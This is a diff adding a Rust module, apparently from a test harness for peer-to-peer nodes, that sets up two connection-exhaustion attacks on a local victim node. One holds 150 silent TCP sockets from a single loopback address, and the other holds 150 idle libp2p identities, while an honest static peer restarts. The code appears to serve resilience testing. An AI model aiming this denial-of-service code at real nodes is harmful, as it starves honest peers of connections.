@@ -1,0 +1,129 @@
+//! Number 7: one address holds all the connections that the victim takes.
+
+use std::net::{Ipv4Addr, SocketAddr};
+use std::time::Duration;
+
+use futures::FutureExt as _;
+use libp2p::identity::Keypair;
+use tokio::io::AsyncReadExt as _;
+use tokio::net::TcpStream;
+
+use super::{Attack, Price, nothing};
+use crate::hostile::node::Target;
+use crate::hostile::proxy::{self, Proxy};
+use crate::hostile::{HostileError, Stage, StageOptions, Tasks};
+use crate::raw::RawIdle;
+
+const ADDRESS: Ipv4Addr = Ipv4Addr::new(127, 0, 10, 1);
+/// Sockets or identities that are kept open: as many as a node takes connections.
+const CONNECTIONS: u32 = 150;
+/// Connections that are begun, each second: more than time-outs of 10 s set free.
+const PER_S: u32 = 20;
+/// Connections that are begun, at most: ten minutes.
+const ATTEMPTS_MAX: u32 = 9_000;
+/// How long the attack goes on before the static peer goes away and comes back.
+const FILLING: Duration = Duration::from_secs(11);
+/// How long the static peer has for that.
+const BACK: Duration = Duration::from_secs(6);
+
+/// Sockets that say nothing.
+pub const SILENT_SOCKETS: Attack = Attack {
+    name: "b7-silent-sockets",
+    about: "150 silent sockets of one address, 20 SYN a second; the static peer restarts meanwhile",
+    price: Price::Nothing,
+    options: StageOptions::default,
+    start: |stage| {
+        async {
+            let address = stage.victim.socket();
+            let mut tasks = Tasks::default();
+            tasks.spawn(sockets(address));
+            restart_static_peer(stage).await?;
+            Ok(tasks)
+        }
+        .boxed()
+    },
+    then: nothing,
+};
+
+/// Peers that do nothing.
+pub const IDLE_IDENTITIES: Attack = Attack {
+    name: "b7-idle-identities",
+    about: "150 idle identities of one address, 20 dials a second; the static peer restarts meanwhile",
+    price: Price::Nothing,
+    options: StageOptions::default,
+    start: |stage| {
+        async {
+            let target = stage.victim.target();
+            let mut tasks = Tasks::default();
+            tasks.spawn(async move {
+                let mut idle = Tasks::default();
+                let mut ticks = tokio::time::interval(Duration::from_secs(1) / PER_S);
+                for _ in 0..CONNECTIONS {
+                    ticks.tick().await;
+                    idle.spawn(async move {
+                        for _ in 0..ATTEMPTS_MAX / CONNECTIONS {
+                            idle_until_end(target).await;
+                            tokio::time::sleep(Duration::from_secs(1)).await;
+                        }
+                    });
+                }
+                std::future::pending::<()>().await;
+            });
+            restart_static_peer(stage).await?;
+            Ok(tasks)
+        }
+        .boxed()
+    },
+    then: nothing,
+};
+
+/// The victim has to dial its static peer again while the attack goes on.
+async fn restart_static_peer(stage: &mut Stage) -> Result<(), HostileError> {
+    tokio::time::sleep(FILLING).await;
+    let peer = stage.honest.first_mut().expect("there is a static peer");
+    peer.kill().await;
+    peer.launch().await?;
+    tokio::time::sleep(BACK).await;
+    Ok(())
+}
+
+/// Connects without a pubsub stream and does nothing until the victim ends the connection.
+async fn idle_until_end(target: Target) {
+    let there = Ipv4Addr::LOCALHOST;
+    if let Ok(proxy) = Proxy::start(there, target.socket, ADDRESS).await {
+        let key = Keypair::generate_ed25519();
+        let address = target.addr_at(proxy.addr());
+        if let Ok(idle) = RawIdle::dial(key, &address).await {
+            idle.closed().await;
+        }
+    }
+}
+
+/// Opens sockets at a steady rate, keeps the newest, and opens others for those that the victim closed.
+async fn sockets(address: SocketAddr) {
+    let mut ticks = tokio::time::interval(Duration::from_secs(1) / PER_S);
+    let mut open: Vec<tokio::task::JoinHandle<()>> = Vec::new();
+    let mut holding = Tasks::default();
+    for _ in 0..ATTEMPTS_MAX {
+        ticks.tick().await;
+        open.retain(|socket| !socket.is_finished());
+        if open.len() < CONNECTIONS as usize {
+            let (closed, until_closed) = tokio::sync::oneshot::channel::<()>();
+            holding.spawn(async move {
+                if let Ok(socket) = proxy::dial(ADDRESS, address).await {
+                    until_end(socket).await;
+                }
+                drop(closed);
+            });
+            open.push(tokio::spawn(async move {
+                let _ = until_closed.await;
+            }));
+        }
+    }
+}
+
+/// Reads until the other side closes.
+async fn until_end(mut socket: TcpStream) {
+    let mut byte = [0; 64];
+    while socket.read(&mut byte).await.is_ok_and(|read| read > 0) {}
+}
